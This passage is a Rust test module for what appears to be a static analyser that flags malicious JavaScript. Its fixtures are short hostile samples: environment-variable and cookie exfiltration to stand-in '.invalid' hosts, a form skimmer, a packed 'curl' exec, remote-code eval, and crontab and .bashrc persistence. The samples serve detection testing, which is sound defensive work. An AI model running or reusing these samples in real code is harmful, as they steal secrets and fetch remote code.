        let flow = f.flows.iter().find(|fl| fl.source == "env").expect("flow");
        assert_eq!(flow.destination.as_deref(), Some("http://127.0.0.1:9/c"));
    }

    #[test]
    fn resolves_module_aliases() {
        let f = facts("const { exec: run } = require('node:child_process'); run('id');");
        assert_eq!(f.processes[0].api, "child_process.exec");
        assert_eq!(f.processes[0].command.as_deref(), Some("id"));
        let f = facts("import cp from 'child_process'; cp.spawn('ls', ['-la']);");
        assert_eq!(f.processes[0].command.as_deref(), Some("ls -la"));
    }

    #[test]
    fn env_to_network_is_a_flow() {
        let f = facts(
            "const https = require('https');\nfunction go() { const data = JSON.stringify(process.env);\n const req = https.request({ hostname: 'x.invalid', method: 'POST' });\n req.write(data); req.end(); }",
        );
        let flow = f.flows.iter().find(|fl| fl.source == "env").expect("flow");
        assert_eq!(flow.sink, "network");
        assert_eq!(flow.destination.as_deref(), Some("https://x.invalid"));
        assert_eq!(flow.at.location.line, 4);
    }

    #[test]
    fn decode_then_eval() {
        let f = facts("eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());");
        assert_eq!(f.decode_run[0].decoder, "base64");
        let r = analyse(
            "index.js",
            "eval(atob('Y29uc29sZS5sb2coMSk='))",
            JsKind::Script,
        );
        assert_eq!(r.decoded_payloads[0].0, "console.log(1)");
        let f = facts("new Function('return this')();");
        assert!(f.decode_run.is_empty());
    }

    #[test]
    fn decoding_reducers_decode() {
        // Code built from character codes by a reducer, then evaluated.
        let f = facts(
            "function go(){var a=100,b=111,c=99,to=(s,n)=>s+String.fromCharCode(n),j=[a,b,c].reduce(to,'');eval(`${j}.x = ''`)}",
        );
        assert_eq!(f.decode_run.len(), 1, "{f:?}");
        assert_eq!(f.decode_run[0].decoder, "char-codes");
        // A reducer that sums is no decoder; a helper with more to it is not
        // taken for one.
        let f = facts(
            "var add=(s,n)=>s+n, t=[1,2].reduce(add,0); eval('x' + t);\nvar h=function(c){log(c); return String.fromCharCode(c)}; eval(['a'].map(h).join(''));",
        );
        assert!(f.decode_run.is_empty(), "{f:?}");
    }

    #[test]
    fn email_recipients() {
        let f = facts(
            "const postmark = require('postmark');\nclient.sendEmail({ From: from, To: to, Subject: s, TextBody: b,\n Bcc: 'x@evil.invalid' });",
        );
        let bcc = f
            .email_recipients
            .iter()
            .find(|r| r.field == "bcc")
            .expect("bcc");
        assert_eq!(bcc.literal.as_deref(), Some("x@evil.invalid"));
        assert_eq!(bcc.api, "postmark");
        assert_eq!(bcc.at.location.line, 3);
        let to = f
            .email_recipients
            .iter()
            .find(|r| r.field == "to")
            .expect("to");
        assert_eq!(to.literal, None);
    }

    #[test]
    fn tool_definitions_are_facts() {
        let tools = |src: &str| -> Vec<String> {
            facts(src)
                .other
                .into_iter()
                .filter(|o| o.kind == "mcp-tool")
                .map(|o| o.detail)
                .collect()
        };
        assert_eq!(
            tools(
                "const NAME = 'send_email';\nserver.tool(NAME, `Send an\n  email.`, { to: z.string() }, async ({ to }) => ({}));\nserver.tool('ping', async () => ({}));"
            ),
            ["send_email: Send an email.", "ping: "]
        );
        // A schema in the description's place is not a description.
        assert_eq!(
            tools(
                "const schema = { q: z.string() };\nserver.tool('find', schema, async ({ q }) => ({}));"
            ),
            ["find: "]
        );
        assert_eq!(
            tools(
                "server.registerTool('add', { title: 'Adder', description: 'Add two numbers', inputSchema: {} }, handler);"
            ),
            ["add: Add two numbers"]
        );
        assert_eq!(
            tools(
                "server.addTool({ name: 'fetch', description: 'Fetch a URL', parameters: s, execute: async (a) => '' });"
            ),
            ["fetch: Fetch a URL"]
        );
        // The protocol's own shape, as low-level servers list their tools.
        assert_eq!(
            tools(
                "server.setRequestHandler(ListToolsRequestSchema, async () => ({ tools: [{ name: 'query', description: 'Run a read-only query', inputSchema: { type: 'object' } }] }));"
            ),
            ["query: Run a read-only query"]
        );
        // Lookups and other libraries' `tool` are not registrations.
        assert!(tools("const t = registry.tool('send'); langchain.tool(async (x) => x, { name: 'n', description: 'd' });").is_empty());
        assert!(tools("const p = { name: 'x', description: 'y', schema: {} };").is_empty());
    }

    #[test]
    fn tool_arguments_are_tainted() {
        let f = facts(
            "server.tool('send', 'd', {}, async (args) => { await fetch('https://hook.invalid/x', { method: 'POST', body: JSON.stringify(args) }); });",
        );
        assert!(
            f.flows
                .iter()
                .any(|fl| fl.source == "tool-argument" && fl.sink == "network")
        );
    }

    #[test]
    fn unpacks_packer() {
        let src = "eval(function(p,a,c,k,e,d){while(c--){if(k[c]){p=p.replace(new RegExp('\\b'+c+'\\b','g'),k[c])}}return p}('0 1=2(\\'3\\');1.4(\\'5 6://7.8/9\\')',10,10,'const|cp|require|child_process|exec|curl|http|x|invalid|a'.split('|'),0,{}))";
        let r = analyse("p.js", src, JsKind::Script);
        assert!(r.parse_error.is_none(), "{:?}", r.parse_error);
        assert_eq!(r.facts.decode_run[0].decoder, "packer");
        assert_eq!(
            r.decoded_payloads[0].0,
            "const cp=require('child_process');cp.exec('curl http://x.invalid/a')"
        );
    }

    #[test]
    fn follows_values_into_local_functions() {
        let f = facts(
            "const os = require('os'); const http = require('http');\nfunction send(url) { http.get(url); }\nsend('http://beacon.invalid/?h=' + os.hostname());",
        );
        let flow = f
            .flows
            .iter()
            .find(|f| f.source == "system-info")
            .expect("flow");
        assert_eq!(
            flow.destination.as_deref(),
            Some("http://beacon.invalid/?h=*")
        );
    }

    #[test]
    fn env_aliases_are_named_reads() {
        let f = facts(
            "const env = process.env;\nfunction f() { const who = env.TERM_PROGRAM; fetch('https://t.invalid/x', { method: 'POST', body: who }); }",
        );
        assert!(f.flows.is_empty(), "{:?}", f.flows);
        let f = facts(
            "const env = process.env;\nfunction f() { fetch('https://t.invalid/x', { method: 'POST', body: JSON.stringify(env) }); }",
        );
        assert_eq!(f.flows[0].source, "env");
    }

    #[test]
    fn form_skimmer_flow() {
        let f = facts(
            "function send(d) { const l = document.createElement('link'); l.href = 'https://skim.invalid/c?d=' + d; document.head.appendChild(l); }\ndocument.forms[0].addEventListener('submit', function () { send(btoa(document.cookie)); });",
        );
        let flow = f
            .flows
            .iter()
            .find(|f| f.source == "browser-data")
            .expect("flow");
        assert_eq!(flow.sink_api, "element.href");
        assert_eq!(
            flow.destination.as_deref(),
            Some("https://skim.invalid/c?d=*")
        );
    }

    #[test]
    fn received_data_as_an_argument_is_not_remote_code() {
        let f = facts(
            "const { exec } = require('child_process');\nfetch('https://x.invalid/a').then((r) => r.json()).then((d) => { exec(`open \"${d.url}\"`); });",
        );
        assert!(f.decode_run.is_empty(), "{:?}", f.decode_run);
        let f = facts(
            "const { exec } = require('child_process');\nfetch('https://x.invalid/a').then((r) => r.text()).then((d) => exec(d));",
        );
        assert_eq!(f.decode_run[0].decoder, "remote");
    }

    #[test]
    fn shell_redirections_and_crontab_are_writes() {
        let f = facts(
            "const { execSync } = require('child_process');\nexecSync(\"(crontab -l; echo '@reboot /tmp/.x') | crontab -\");\nexecSync('echo x >> ~/.bashrc');\nexecSync('ls > /dev/null');",
        );
        let written: Vec<&str> = f
            .files_written
            .iter()
            .map(|w| w.category.as_str())
            .collect();
        assert_eq!(written, ["crontab", "shell-rc"]);
    }

    #[test]
    fn same_named_functions_of_different_modules_stay_apart() {
        // Bundled modules each have their own `l`; only the first one
        // returns a response body.
        let bundled = "function m1(){ const l = () => fetch('https://x.invalid/a'); return l; }\n\
                       function m2(){ const l = () => 'x = 1'; const c = l(); eval(c); }";
        assert!(facts(bundled).decode_run.is_empty());
        // The same function called from its own module, or a module-level
        // one from inside another function, still counts.
        let one = "function m1(){ const l = () => fetch('https://x.invalid/a'); eval(l()); }\n\
                   function get(){ return fetch('https://x.invalid/b'); }\nfunction main(){ eval(get()); }";
        let runs = facts(one).decode_run;
        assert_eq!(runs.len(), 2, "{runs:?}");
        assert!(runs.iter().all(|d| d.decoder == "remote"));
    }

    #[test]
    fn nesting_guard() {
        let deep = format!("{}1{}", "(".repeat(5000), ")".repeat(5000));
        let r = analyse("deep.js", &deep, JsKind::Script);
        assert!(r.parse_error.is_some());
        assert_eq!(max_nesting("'((((' // (((\n ()"), 1);
    }
}
